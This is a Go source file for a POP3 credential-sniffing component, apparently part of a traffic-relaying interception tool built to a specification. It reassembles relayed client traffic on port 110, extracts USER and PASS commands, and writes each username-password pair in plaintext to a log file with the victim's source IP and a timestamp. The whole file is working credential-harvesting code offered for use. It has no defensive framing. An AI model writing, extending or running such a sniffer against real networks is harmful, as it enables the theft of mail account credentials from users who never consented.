// Package pop3 implements the POP3 credential-sniffing dissector hook
// (spec §4.4): an inline inspector of relayed client->remote bytes on
// destination port 110 that extracts USER/PASS pairs into a log file.
//
// A single Dissector instance owns process-global reassembly state. That is
// only valid because the relay loop (internal/relay) is single-threaded —
// see spec §9's design note — so Process is never called concurrently.
package pop3

import (
	"bufio"
	"fmt"
	"os"
	"strings"
	"sync"
	"time"
)

// bufferCapacity is the dissector's fixed reassembly buffer size.
const bufferCapacity = 1024

// Dissector extracts USER/PASS credential pairs from a POP3 byte stream.
type Dissector struct {
	LogPath string

	mu     sync.Mutex // guards buf/user/pass; see spec §5 "if ported to multi-threaded dissection, wrap with a mutex"
	buf    []byte
	user   string
	hasUsr bool
	pass   string
	hasPwd bool

	now func() time.Time // overridable for tests
}

// New creates a Dissector writing captured credentials to logPath.
func New(logPath string) *Dissector {
	return &Dissector{LogPath: logPath, now: time.Now}
}

// Reset clears all captured/buffered state. Called at the start of every
// new relaying connection (spec §4.4).
func (d *Dissector) Reset() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.resetLocked()
}

func (d *Dissector) resetLocked() {
	d.buf = d.buf[:0]
	d.user, d.hasUsr = "", false
	d.pass, d.hasPwd = "", false
}

// Process feeds one chunk of client->remote bytes through the line
// reassembly buffer, extracting USER/PASS lines. When both have been
// captured in the current session it appends a credential-log entry and
// resets the capture slots (but not the line buffer, which may hold the
// start of the next command already).
func (d *Dissector) Process(chunk []byte, sourceIP string) {
	d.mu.Lock()
	defer d.mu.Unlock()

	if len(chunk) >= bufferCapacity {
		// The chunk alone already fills the buffer: discard everything
		// buffered so far and keep only its trailing bufferCapacity bytes.
		d.buf = d.buf[:0]
		chunk = chunk[len(chunk)-bufferCapacity:]
	} else if len(d.buf)+len(chunk) > bufferCapacity {
		// Buffer overflow discards accumulated bytes (spec §4.4).
		d.buf = d.buf[:0]
	}
	d.buf = append(d.buf, chunk...)

	for {
		i := indexByte(d.buf, '\n')
		if i < 0 {
			break
		}
		line := string(d.buf[:i])
		d.buf = d.buf[i+1:]
		d.handleLine(strings.TrimRight(line, "\r"), sourceIP)
	}
}

func (d *Dissector) handleLine(line, sourceIP string) {
	trimmed := strings.TrimSpace(line)
	lower := strings.ToLower(trimmed)

	switch {
	case strings.HasPrefix(lower, "user "):
		d.user = strings.TrimSpace(trimmed[5:])
		d.hasUsr = true
	case strings.HasPrefix(lower, "pass "):
		d.pass = strings.TrimSpace(trimmed[5:])
		d.hasPwd = true
	}

	if d.hasUsr && d.hasPwd {
		d.logCredentials(sourceIP)
		d.user, d.hasUsr = "", false
		d.pass, d.hasPwd = "", false
	}
}

func (d *Dissector) logCredentials(sourceIP string) {
	entry := fmt.Sprintf("[%s] POP3 credentials captured from %s -> USER: %s | PASS: %s\n",
		d.now().Format("2006-01-02 15:04:05"), sourceIP, d.user, d.pass)

	f, err := os.OpenFile(d.LogPath, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		return
	}
	defer f.Close()

	w := bufio.NewWriter(f)
	_, _ = w.WriteString(entry)
	_ = w.Flush()
}

func indexByte(b []byte, c byte) int {
	for i, v := range b {
		if v == c {
			return i
		}
	}
	return -1
}
